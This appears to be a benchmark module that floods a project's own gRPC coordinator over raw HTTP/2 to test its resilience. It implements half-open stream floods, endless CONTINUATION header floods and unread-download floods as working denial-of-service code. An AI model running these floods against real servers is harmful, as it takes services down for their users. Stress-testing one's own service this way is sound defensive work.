"""One attacker of benchmarks.floods, a process that floods until it is killed:

    python -m benchmarks.flood KIND ADDRESS IDENTITY.json RUN_ID SHA256

It writes one line when the flood is up, and one for each of its calls that was ended.
"""

from __future__ import annotations

import json
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

from antiphon.v1 import coordinator_pb2 as pb
from benchmarks.raw_http2 import HEADERS, RST_STREAM, RawHttp2, whole_number

_STREAMS = 8
_COORDINATOR, _ENROLMENT = "/antiphon.v1.Coordinator", "/antiphon.v1.Enrolment"
_INDEXED = bytes([0x80 + 60]) * 16_384  # `via`, without a value
_WINDOW = {4: (1 << 31) - 1}  # SETTINGS_INITIAL_WINDOW_SIZE: as much of a stream as there is


class Flood:
    """What an attacker knows. identity: none where the port asks for no certificate."""

    def __init__(self, address: str, identities: list[dict[str, str]], run_id: str, sha256: str):
        """identities: used in turn, one for each connection."""
        self._address, self._identities = address, identities or [None]  # type: ignore[list-item]
        self._run_id, self._sha256 = run_id, bytes.fromhex(sha256)
        self._open: list[RawHttp2] = []

    def half_open_enrolment(self) -> None:
        """64 calls of headers alone, without a certificate; ended ones are begun again."""
        self._begun(8, f"{_ENROLMENT}/Enrol")

    def half_open_uploads(self) -> None:
        """2,000 uploads of headers alone, of one certificate."""
        self._begun(250, f"{_COORDINATOR}/Upload")

    def continuation(self) -> None:
        """8 connections with a block of headers that does not end."""
        value = whole_number(1 << 30, 7)
        block = b"\0" + whole_number(1, 7) + b"x" + value + bytes(16_384 - 3 - len(value))
        self._endless(block, b"x" * 16_384)

    def continuation_fields(self) -> None:
        """The same, of many small fields."""
        small = b"\0" + whole_number(1, 7) + b"x" + whole_number(1, 7) + b"y"
        self._endless(small * (16_384 // len(small)), small * (16_384 // len(small)))

    def continuation_indexed(self) -> None:
        """The same, of fields that take a byte each: an index into HPACK's own table."""
        self._endless(_INDEXED, _INDEXED)

    def continuation_after_a_call(self) -> None:
        """The same, after an honest call; gRPC's settings are never acknowledged."""
        self._endless(_INDEXED, _INDEXED, honest=True)

    def unread_downloads(self) -> None:
        """800 downloads of which nothing is read."""
        request = pb.DownloadRequest(run_id=self._run_id, sha256=self._sha256).SerializeToString()
        for connection in self._connections(100):
            with suppress(OSError):
                for number in range(_STREAMS):
                    connection.headers(2 * number + 1, f"{_COORDINATOR}/Download")
                    connection.message(2 * number + 1, request)
        _say("up")

    def _begun(self, connections: int, path: str) -> None:
        for connection in self._connections(connections):
            with suppress(OSError):
                for number in range(_STREAMS):
                    connection.headers(2 * number + 1, path)
                threading.Thread(target=_again, args=(connection, path), daemon=True).start()
        _say("up")

    def _endless(self, first: bytes, then: bytes, *, honest: bool = False) -> None:
        def send(connection: RawHttp2) -> None:
            with suppress(OSError, EOFError):
                if honest:
                    connection.headers(1, f"{_COORDINATOR}/Hello")
                    connection.message(1, b"")
                    while connection.frame()[0] != HEADERS:
                        pass
                connection.headers(3, f"{_COORDINATOR}/Hello", whole=False)
                connection.more_headers(3, first)
                while True:
                    connection.more_headers(3, then)
            _say("ended")

        def keep() -> None:
            while True:
                with suppress(OSError):
                    send(RawHttp2(self._address, self._identities[0], {}))
                time.sleep(0.05)

        for _ in range(8):
            threading.Thread(target=keep, daemon=True).start()
        _say("up")

    def _connections(self, count: int) -> Iterator[RawHttp2]:
        for number in range(count):
            identity = self._identities[number % len(self._identities)]
            with suppress(OSError):
                connection = RawHttp2(self._address, identity, _WINDOW)
                connection.open_window((1 << 31) - 1 - 65_535)
                self._open.append(connection)
                yield connection


def _again(connection: RawHttp2, path: str) -> None:
    """Begin a new call for each that is ended, a second later."""
    following = 2 * _STREAMS + 1
    with suppress(OSError, EOFError):
        while True:
            kind, flags, _ = connection.frame()
            if kind == RST_STREAM or (kind == HEADERS and flags & 1):
                _say("ended")
                time.sleep(1)
                connection.headers(following, path)
                following += 2


def _say(word: str) -> None:
    print(word, flush=True)


def main(kind: str, address: str, identities: str, run_id: str, sha256: str) -> None:
    """Flood until killed."""
    given: Any = json.loads(Path(identities).read_text())
    begin: Callable[[], None] = getattr(Flood(address, given, run_id, sha256), kind)
    begin()
    time.sleep(3600)


if __name__ == "__main__":
    main(*sys.argv[1:])
